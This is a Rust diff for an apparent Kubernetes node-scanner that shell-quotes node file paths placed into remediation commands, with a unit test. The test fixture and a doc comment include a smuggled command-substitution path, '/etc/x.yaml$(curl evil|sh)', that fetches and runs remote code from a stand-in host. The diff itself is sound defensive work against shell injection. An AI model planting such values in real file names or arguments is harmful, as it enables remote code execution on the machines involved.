@@ -184,7 +184,7 @@ pub fn scan(
                 expected: outcome.expected,
                 actual: outcome.actual,
                 reason: outcome.reason,
-                remediation: expand(item.remediation.trim_end(), &discovery.vars),
+                remediation: expand_for_shell(item.remediation.trim_end(), &discovery.vars),
             })
         })
         .collect();
@@ -376,6 +376,30 @@ pub fn expand(text: &str, vars: &BTreeMap<String, String>) -> String {
     out
 }
 
+/// `expand` for remediation, whose commands a person may paste into a
+/// shell: a value from the node (a path) with characters a shell would act
+/// on (`config.yaml$(curl …)`, spaces, quotes) is single-quoted.
+pub fn expand_for_shell(text: &str, vars: &BTreeMap<String, String>) -> String {
+    let quoted: BTreeMap<String, String> = vars
+        .iter()
+        .map(|(k, v)| (k.clone(), shell_word(v)))
+        .collect();
+    expand(text, &quoted)
+}
+
+/// A word a POSIX shell reads back as `value`, left bare when it is plain.
+pub fn shell_word(value: &str) -> String {
+    let plain = !value.is_empty()
+        && value
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"/._-+,:=@%".contains(&b));
+    if plain {
+        value.to_owned()
+    } else {
+        format!("'{}'", value.replace('\'', r"'\''"))
+    }
+}
+
 fn expand_json(value: &serde_json::Value, vars: &BTreeMap<String, String>) -> serde_json::Value {
     use serde_json::Value;
     match value {
@@ -393,6 +417,33 @@ fn expand_json(value: &serde_json::Value, vars: &BTreeMap<String, String>) -> se
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn node_paths_in_remediation_are_quoted_for_a_shell() {
+        let vars = BTreeMap::from([
+            (
+                "kubelet.conf".to_owned(),
+                "/var/lib/kubelet/config.yaml".to_owned(),
+            ),
+            (
+                "apiserver.conf".to_owned(),
+                "/etc/x.yaml$(curl evil|sh)".to_owned(),
+            ),
+            ("etcd.conf".to_owned(), "/etc/it's here".to_owned()),
+        ]);
+        assert_eq!(
+            expand_for_shell("chmod 600 ${kubelet.conf}", &vars),
+            "chmod 600 /var/lib/kubelet/config.yaml"
+        );
+        assert_eq!(
+            expand_for_shell("chmod 600 ${apiserver.conf}", &vars),
+            "chmod 600 '/etc/x.yaml$(curl evil|sh)'"
+        );
+        assert_eq!(
+            expand_for_shell("chown root:root ${etcd.conf}", &vars),
+            r"chown root:root '/etc/it'\''s here'"
+        );
+    }
 
     #[test]
     fn expands_known_variables_and_keeps_the_rest() {
